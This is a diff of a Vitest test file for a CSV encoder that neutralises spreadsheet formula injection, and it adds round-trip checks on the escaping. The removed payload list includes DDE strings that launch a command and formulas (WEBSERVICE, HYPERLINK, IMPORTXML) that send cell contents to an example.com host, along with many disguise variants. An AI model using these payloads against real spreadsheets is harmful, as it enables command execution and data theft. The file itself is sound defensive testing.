@@ -1,55 +1,16 @@
 import { describe, expect, it } from 'vitest';
 import { csvRow, UTF8_MARK } from '#domain/csv/csv-row.ts';
+import { PAYLOADS } from '../shared/formula-payloads.ts';
 import { readCsv } from '../shared/read-csv.ts';
 
-/** What people have sent to have a spreadsheet run something: formulas, their disguises, and ways out of the cell. */
-const RUN = `cmd|' /C calc'!A0`;
-const PAYLOADS = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1+1)',
-  `=${RUN}`,
-  `+${RUN}`,
-  `-${RUN}`,
-  `@${RUN}`,
-  '=HYPERLINK("https://example.com/?a="&A1,"here")',
-  '=WEBSERVICE("https://example.com/"&A1)',
-  '=IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
-  '=IMAGE("https://example.com/a.png")',
-  '=DDE("cmd";"/C calc";"x")',
-  `-2+3+${RUN}`,
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\r\n=1+1',
-  ' =1+1',
-  '   +1+1',
-  '\u00a0=1+1',
-  '\u200b=1+1',
-  '\ufeff=1+1',
-  '\u0001=1+1',
-  '"=1+1',
-  '""=1+1',
-  '",=1+1',
-  '";=1+1',
-  `'=1+1`,
-  `' =1+1`,
-  'fine;=1+1',
-  'fine,=1+1',
-  'fine\t=1+1',
-  'fine\n=1+1',
-  'fine\r\n@SUM(1)',
-  'fine";"=1+1',
-  'fine","=1+1',
-  'fine|=1+1',
-  '\uff1d1+1',
-  '\uff0b1+1',
-  '\uff0d1+1',
-  '\uff20SUM(1)',
-  '\t',
-  '\rtext',
-];
+/** Takes away the apostrophes that were put in, as `docs/file-formats.md` says it. */
+function asWritten(cell: string): string {
+  const inside = /^'+[\t\r\n]/.test(cell) ? cell.slice(1) : cell;
+  return inside.replace(
+    /(?<![\s"';,|\p{C}])[\s"';,|\p{C}]*(?=[=+\-@\uff0b\uff0d\uff1d\uff20])/gu,
+    (run: string, place: number) => (place === 0 || /[\t\r\n;,|]/.test(run) ? run.slice(0, -1) : run),
+  );
+}
 
 /** Where a cell could begin for a program that takes any of the usual signs for the one between cells, and knows no quotes. */
 const beginnings = (text: string) => text.split(/[,;|\t\r\n]/).map((cell) => cell.replace(/^[\s"\p{C}]+/u, ''));
@@ -60,8 +21,16 @@ describe.each([',', ';'] as const)('a row of CSV with %s between its values', (s
     const [cells] = readCsv(row, separator);
     expect(cells).toHaveLength(2);
     for (const cell of [...(cells ?? []), ...beginnings(row)]) expect(cell).not.toMatch(/^[=+\-@\uff0b-\uff20\t\r\n]/);
-    expect(cells?.[0]?.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
+    expect(asWritten(cells?.[0] ?? '')).toBe(payload);
   });
+
+  it.each(["'\tx", "'", "''=1", "it's = 4", "a '=b", "x;'=1", "'\n'=1"])(
+    'can be read as it was written: %j',
+    (value) => {
+      const [cells] = readCsv(csvRow([value], separator), separator);
+      expect(asWritten(cells?.[0] ?? '')).toBe(value);
+    },
+  );
 
   it('leaves everything else as it is', () => {
     const values = [
